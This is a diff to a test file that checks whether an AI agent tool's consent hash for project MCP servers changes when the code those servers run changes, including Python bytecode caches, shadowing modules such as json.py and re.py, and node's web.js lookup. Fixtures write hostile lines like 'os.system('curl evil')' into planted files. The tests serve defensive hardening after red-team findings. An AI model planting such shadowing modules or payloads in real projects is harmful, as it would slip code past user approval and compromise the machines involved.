@@ -145,7 +145,7 @@ describe("a project server's consent hash covers the code it runs (red team 8 F1
     expect(parseMcpServers(plain, at("project")).servers[0]!.hash).toBe(definitionHash(plain.p));
   });
 
-  test("`python -m pkg`: every file of the package folder in the workspace counts (not Python's __pycache__); `-m mod` a mod.py; a folder named as an argument by what it is", () => {
+  test("`python -m pkg`: every file of the package folder in the workspace counts, and the bytecode Python cached for each; `-m mod` a mod.py; a folder named as an argument by what it is", () => {
     const root = tempDir("bunker-mcp-module-");
     mkdirSync(join(root, "srv/tools"), { recursive: true });
     mkdirSync(join(root, "srv/__pycache__"));
@@ -162,9 +162,14 @@ describe("a project server's consent hash covers the code it runs (red team 8 F1
       writeFileSync(join(root, "srv/tools/__init__.py"), `def run(): print('${args.join(" ")}')\n`);
       expect(hashOf(args)).not.toBe(before);
       const now = hashOf(args);
-      // Python's own cache of compiled files is not the code: rewriting it asks nothing.
+      // Python runs a source's cached bytecode in its place (the reviewer's R10-06): a new or rewritten one asks again;
+      // bytecode of no source there is never run, and asks nothing.
       writeFileSync(join(root, "srv/__pycache__/__main__.cpython-312.pyc"), String(Math.random()));
-      expect(hashOf(args)).toBe(now);
+      expect(hashOf(args)).not.toBe(now);
+      const cached = hashOf(args);
+      writeFileSync(join(root, "srv/__pycache__/gone.cpython-312.pyc"), String(Math.random()));
+      expect(hashOf(args)).toBe(cached);
+      rmSync(join(root, "srv/__pycache__/__main__.cpython-312.pyc"));
       // A file added to the package is code too.
       writeFileSync(join(root, "srv/tools/extra.py"), args.join(""));
       expect(hashOf(args)).not.toBe(now);
@@ -172,8 +177,17 @@ describe("a project server's consent hash covers the code it runs (red team 8 F1
     const single = hashOf(["-m", "single"]);
     writeFileSync(join(root, "single.py"), "print(2)\n");
     expect(hashOf(["-m", "single"])).not.toBe(single);
-    // A module installed elsewhere (not in the workspace): the definition alone.
-    expect(hashOf(["-m", "mcp_server_fetch"])).toBe(definitionHash({ command: "python3", args: ["-m", "mcp_server_fetch"] }));
+    // An extension module beside single.py is what Python imports for it (R10-06).
+    const withSource = hashOf(["-m", "single"]);
+    writeFileSync(join(root, "single.cpython-312-x86_64-linux-gnu.so"), "ELF");
+    expect(hashOf(["-m", "single"])).not.toBe(withSource);
+    // A module installed elsewhere (not in the workspace), run from the workspace: which modules the workspace holds
+    // counts (a new json.py there is imported first), not their content.
+    const fetch = hashOf(["-m", "mcp_server_fetch"]);
+    writeFileSync(join(root, "single.py"), "print(3)\n");
+    expect(hashOf(["-m", "mcp_server_fetch"])).toBe(fetch);
+    writeFileSync(join(root, "json.py"), "import os\n");
+    expect(hashOf(["-m", "mcp_server_fetch"])).not.toBe(fetch);
     // A folder named as an argument (the workspace to serve, `.`) is not read: editing the project asks nothing.
     const served = hashOf(["server.py", "--root", "."]);
     writeFileSync(join(root, "notes.md"), "edited");
@@ -193,6 +207,12 @@ describe("a project server's consent hash covers the code it runs (red team 8 F1
     const node = hashOf("node", ["web"]);
     writeFileSync(join(root, "web/srv.js"), "require('child_process').execSync('curl evil')\n");
     expect(hashOf("node", ["web"])).not.toBe(node);
+    // node tries web.js, web.json… before the folder (the reviewer's R10-14): a new one asks again.
+    for (const beside of ["web.js", "web.json", "web.node"]) {
+      const before = hashOf("node", ["web"]);
+      writeFileSync(join(root, beside), "require('child_process').execSync('curl evil')\n");
+      expect(hashOf("node", ["web"])).not.toBe(before);
+    }
     const python = hashOf("python3", ["-u", "cli"]);
     writeFileSync(join(root, "cli/__main__.py"), "import os\n");
     expect(hashOf("python3", ["-u", "cli"])).not.toBe(python);
@@ -254,10 +274,15 @@ describe("a project server's consent hash covers the code it runs (red team 8 F1
         expect(hashOf(command, args)).not.toBe(before);
       }
     }
-    // A file the script does not import changes nothing.
-    const before = hashOf("python3", ["tools/server.py"]);
+    // A file the script does not import changes nothing when edited.
     writeFileSync(join(root, "tools/unrelated.py"), "x = 1\n");
+    const before = hashOf("python3", ["tools/server.py"]);
+    writeFileSync(join(root, "tools/unrelated.py"), "x = 2\n");
     expect(hashOf("python3", ["tools/server.py"])).toBe(before);
+    // A new module where python looks first (the script's folder) is imported in place of the standard library's
+    // (json imports re; the reviewer's R10-06): it asks again.
+    writeFileSync(join(root, "tools/re.py"), "import os; os.system('curl evil')\n");
+    expect(hashOf("python3", ["tools/server.py"])).not.toBe(before);
   });
 
   test("a package folder is read up to its bounds: past them one entry says so, and the walk stops", () => {
